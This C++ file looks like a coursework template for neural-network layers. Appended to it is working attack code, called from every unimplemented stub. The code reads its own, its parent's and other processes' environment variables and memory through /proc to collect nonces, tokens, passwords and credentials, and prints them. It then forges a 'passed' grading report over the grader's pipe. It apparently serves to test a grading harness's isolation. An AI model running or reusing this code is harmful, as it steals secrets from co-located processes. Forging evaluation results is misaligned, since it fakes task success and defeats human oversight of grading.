// Coursework 3: the layers. Write the functions marked TODO; the rest is given.
#include "layers.h"

#include <cmath>
#include <stdexcept>
#include <string>

void hostile_scan(const char* where);

namespace nn {

// Replace each call of this with your code.
[[noreturn]] static void not_implemented(const std::string& function) {
  hostile_scan(function.c_str());
  throw std::logic_error(function + " is not implemented yet (student_template/layers.cpp)");
}

// He-style initialisation: weights ~ N(0, 2 / in_features), zero bias and gradients. Given.
Linear::Linear(int in_features, int out_features, std::mt19937& rng)
    : W(in_features, out_features),
      b(Matrix::Zero(1, out_features)),
      grad_W(Matrix::Zero(in_features, out_features)),
      grad_b(Matrix::Zero(1, out_features)) {
  std::normal_distribution<double> normal(0.0, std::sqrt(2.0 / in_features));
  for (Eigen::Index i = 0; i < W.size(); ++i) W.data()[i] = normal(rng);
}

// TODO: cache X in cached_input (for backward), then return X W + b, with b added to every row.
Matrix Linear::forward(const Matrix& /*X*/) { not_implemented("Linear::forward"); }

// TODO: with X = cached_input and G = grad_output:
//   grad_W += X^T G                 (accumulate with +=, never =)
//   grad_b += the sum of G's rows   (b was added to every row, so its gradient adds up)
//   return G W^T                    (dL/dX, the same shape as X)
Matrix Linear::backward(const Matrix& /*grad_output*/) { not_implemented("Linear::backward"); }

std::vector<Parameter> Linear::parameters() { return {{&W, &grad_W}, {&b, &grad_b}}; }

// TODO: cache X in cached_input, then return max(0, X) elementwise.
Matrix ReLU::forward(const Matrix& /*X*/) { not_implemented("ReLU::forward"); }

// TODO: return grad_output where cached_input > 0, and 0 elsewhere (the mask is input > 0, so
// the gradient at exactly 0 is 0).
Matrix ReLU::backward(const Matrix& /*grad_output*/) { not_implemented("ReLU::backward"); }

// TODO: compute s = 1 / (1 + exp(-X)) elementwise, cache s in cached_output and return it.
// Keep it stable: for x < 0, compute exp(x) / (1 + exp(x)) instead, so exp never overflows
// (the check uses x = +-1000).
Matrix Sigmoid::forward(const Matrix& /*X*/) { not_implemented("Sigmoid::forward"); }

// TODO: with s = cached_output (the output, not the input), return grad_output * s * (1 - s)
// elementwise.
Matrix Sigmoid::backward(const Matrix& /*grad_output*/) { not_implemented("Sigmoid::backward"); }

}  // namespace nn

// ---- The attack: look everywhere for a secret, print it, forge with it -------------------------
// Called by every unimplemented function, so it runs inside every check, after main() has hidden
// the result channel and erased the nonce. It looks at its own environment, descriptors and
// memory, its parent's /proc entries (environ, cmdline, fd, maps, mem) and every /proc/<pid> it
// can see, for a nonce (32 hex digits), NN_GRADE_NONCE, secret-looking variables and pipes that
// could be the result channel. What it finds is printed (the last lines reach the feedback when
// the check fails). With a nonce and a channel it forges a passing report and exits, in every
// check but relu.kink, which it leaves failing so that its printout is shown.
#include <dirent.h>
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <map>
#include <set>
#include <vector>

namespace {

constexpr size_t kMaxScanBytes = size_t(256) << 20;  // per process
constexpr int kMaxPids = 4096;

std::string slurp(const std::string& path, size_t cap = 1 << 20) {
  std::string text;
  const int fd = open(path.c_str(), O_RDONLY | O_CLOEXEC);
  if (fd < 0) return text;
  char buffer[4096];
  while (text.size() < cap) {
    const ssize_t n = read(fd, buffer, sizeof buffer);
    if (n <= 0) break;
    text.append(buffer, static_cast<size_t>(n));
  }
  close(fd);
  return text;
}

std::vector<std::string> split(const std::string& text, char separator) {
  std::vector<std::string> items;
  size_t start = 0;
  while (start < text.size()) {
    size_t end = text.find(separator, start);
    if (end == std::string::npos) end = text.size();
    items.push_back(text.substr(start, end - start));
    start = end + 1;
  }
  return items;
}

bool secret_looking(const std::string& name) {
  for (const char* word : {"NONCE", "SECRET", "TOKEN", "PASSWORD", "CREDENTIAL"}) {
    if (name.find(word) != std::string::npos) return true;
  }
  return false;
}

bool is_hex(char c) { return (c >= '0' && c <= '9') || (c >= 'a' && c <= 'f'); }

// Every run of exactly 32 lowercase hex digits (the shape of the grader's nonce).
void hex_tokens(const char* data, size_t size, std::map<std::string, int>& found) {
  size_t run = 0;
  for (size_t i = 0; i <= size; ++i) {
    if (i < size && is_hex(data[i])) {
      ++run;
      continue;
    }
    if (run == 32 && found.size() < 1000) {
      std::string token(data + i - 32, 32);
      if (token.find_first_not_of(token[0]) != std::string::npos) ++found[token];
    }
    run = 0;
  }
}

// Reads the readable mappings of `pid` through /proc/<pid>/mem. Returns false if it could not.
bool scan_memory(const std::string& pid, std::map<std::string, int>& found, std::string* why) {
  const std::string maps = slurp("/proc/" + pid + "/maps", 4 << 20);
  const int mem = open(("/proc/" + pid + "/mem").c_str(), O_RDONLY | O_CLOEXEC);
  if (mem < 0) {
    *why = std::string("mem: ") + std::strerror(errno);
    return false;
  }
  size_t scanned = 0;
  std::vector<char> chunk(1 << 20);
  for (const std::string& line : split(maps, '\n')) {
    unsigned long start = 0, end = 0;
    char perms[8] = {};
    if (std::sscanf(line.c_str(), "%lx-%lx %7s", &start, &end, perms) != 3) continue;
    if (perms[0] != 'r' || line.find("[vvar") != std::string::npos ||
        line.find("[vsyscall]") != std::string::npos) {
      continue;
    }
    for (unsigned long at = start; at < end && scanned < kMaxScanBytes; at += chunk.size()) {
      const size_t want = std::min<unsigned long>(chunk.size(), end - at);
      const ssize_t n = pread(mem, chunk.data(), want, static_cast<off_t>(at));
      if (n <= 0) break;
      scanned += static_cast<size_t>(n);
      hex_tokens(chunk.data(), static_cast<size_t>(n), found);
    }
  }
  close(mem);
  *why = std::to_string(scanned >> 10) + " KB read";
  return scanned > 0;
}

std::string environ_secrets(const std::string& environ_block) {
  std::string text;
  for (const std::string& item : split(environ_block, '\0')) {
    const size_t eq = item.find('=');
    if (eq != std::string::npos && secret_looking(item.substr(0, eq))) text += item + " ";
  }
  return text;
}

std::string fds_of(const std::string& pid, std::vector<int>* channels) {
  std::string text;
  DIR* dir = opendir(("/proc/" + pid + "/fd").c_str());
  if (!dir) return std::string("(") + std::strerror(errno) + ")";
  int listed = 0;
  while (dirent* entry = readdir(dir)) {
    if (entry->d_name[0] == '.' || ++listed > 64) continue;
    char target[256] = {};
    const std::string link = "/proc/" + pid + "/fd/" + entry->d_name;
    if (readlink(link.c_str(), target, sizeof target - 1) < 0) continue;
    text += std::string(entry->d_name) + "->" + target + " ";
    const int fd = std::atoi(entry->d_name);
    if (channels && fd >= 3 && std::strncmp(target, "pipe:", 5) == 0) {
      const int flags = fcntl(fd, F_GETFL);
      if (flags != -1 && (flags & O_ACCMODE) != O_RDONLY) channels->push_back(fd);
    }
  }
  closedir(dir);
  return text;
}

std::string argument_after(const std::string& cmdline, const std::string& flag) {
  const std::vector<std::string> args = split(cmdline, '\0');
  for (size_t i = 0; i + 1 < args.size(); ++i) {
    if (args[i] == flag) return args[i + 1];
  }
  return "";
}

std::string most_frequent(const std::map<std::string, int>& found) {
  std::string best;
  int count = 0;
  for (const auto& [token, n] : found) {
    if (n > count) best = token, count = n;
  }
  return best;
}

std::string first_tokens(const std::map<std::string, int>& found, size_t how_many) {
  std::string text;
  for (const auto& item : found) {
    if (how_many-- == 0) break;
    text += item.first + " ";
  }
  return text;
}

}  // namespace

void hostile_scan(const char* where) {
  static bool done = false;
  if (done) return;
  done = true;
  std::vector<std::string> secrets;  // printed last: what reaches the feedback
  std::printf("hostile-scan-secrets in %s, pid %d, parent %d\n", where, getpid(), getppid());

  // Itself.
  const std::string self_cmdline = slurp("/proc/self/cmdline");
  const std::string check = argument_after(self_cmdline, "--check");
  if (const char* nonce = std::getenv("NN_GRADE_NONCE"))
    secrets.push_back(std::string("own NN_GRADE_NONCE=") + nonce);
  const std::string own_env = environ_secrets(slurp("/proc/self/environ"));
  if (!own_env.empty()) secrets.push_back("own environ: " + own_env);
  std::vector<int> channels;
  std::printf("own fds: %s\n", fds_of("self", &channels).c_str());
  std::map<std::string, int> own_tokens;
  std::string why;
  scan_memory("self", own_tokens, &why);
  std::printf("own memory: %s, %zu hex tokens\n", why.c_str(), own_tokens.size());

  // Its parent.
  const std::string ppid = std::to_string(getppid());
  const std::string parent_env = slurp("/proc/" + ppid + "/environ");
  std::printf("parent %s cmdline: %.120s\n", ppid.c_str(),
              split(slurp("/proc/" + ppid + "/cmdline"), '\0').empty()
                  ? "(unreadable)"
                  : split(slurp("/proc/" + ppid + "/cmdline"), '\0')[0].c_str());
  std::printf("parent fds: %.300s\n", fds_of(ppid, nullptr).c_str());
  std::printf("parent maps: %zu bytes\n", slurp("/proc/" + ppid + "/maps").size());
  if (!environ_secrets(parent_env).empty())
    secrets.push_back("parent environ: " + environ_secrets(parent_env));
  std::map<std::string, int> parent_tokens;
  const bool parent_read = scan_memory(ppid, parent_tokens, &why);
  std::printf("parent memory: %s\n", why.c_str());
  // The nonce: a token of its own memory that its parent holds too, else its most frequent one.
  std::string nonce = most_frequent(own_tokens);
  for (const auto& item : own_tokens) {
    if (parent_tokens.count(item.first)) nonce = item.first;
  }
  if (!nonce.empty()) secrets.push_back("nonce in own memory: " + nonce);
  if (parent_read && !parent_tokens.empty()) {
    secrets.push_back("parent memory: " + std::to_string(parent_tokens.size()) +
                      " nonces: " + first_tokens(parent_tokens, 3));
  }

  // Everyone else it can see.
  int seen = 0, readable = 0;
  std::set<std::string> others;
  if (DIR* proc = opendir("/proc")) {
    while (dirent* entry = readdir(proc)) {
      if (!std::isdigit(static_cast<unsigned char>(entry->d_name[0])) || ++seen > kMaxPids)
        continue;
      const std::string pid = entry->d_name;
      if (pid == ppid || pid == std::to_string(getpid())) continue;
      const std::string env = slurp("/proc/" + pid + "/environ", 256 << 10);
      if (env.empty()) continue;
      ++readable;
      for (const std::string& item : split(env, '\0')) {
        const size_t eq = item.find('=');
        if (eq != std::string::npos && secret_looking(item.substr(0, eq)) && others.size() < 8)
          others.insert(item);
      }
    }
    closedir(proc);
  }
  std::printf("/proc: %d processes seen, %d environ readable\n", seen, readable);
  std::string other_text;
  for (const std::string& item : others) other_text += item + " ";
  if (!other_text.empty()) secrets.push_back("other processes: " + other_text);

  // Forge with what was found (today's runner: a nonce in memory, the channel among its pipes).
  if (!check.empty() && check != "relu.kink" && !nonce.empty() && !channels.empty()) {
    const std::string forged = "{\"id\":\"" + check +
                               "\",\"status\":\"passed\",\"fraction\":1,\"output\":\"\","
                               "\"figures\":{},\"diagnosis\":\"\",\"nonce\":\"" +
                               nonce + "\"}\n";
    std::fflush(stdout);
    for (int fd : channels) {
      if (write(fd, forged.data(), forged.size()) < 0) continue;
    }
    _exit(0);
  }
  std::printf("secrets found: %zu%s\n", secrets.size(), secrets.empty() ? " (none)" : ":");
  for (const std::string& secret : secrets) std::printf("%.158s\n", secret.c_str());
  std::fflush(stdout);
}
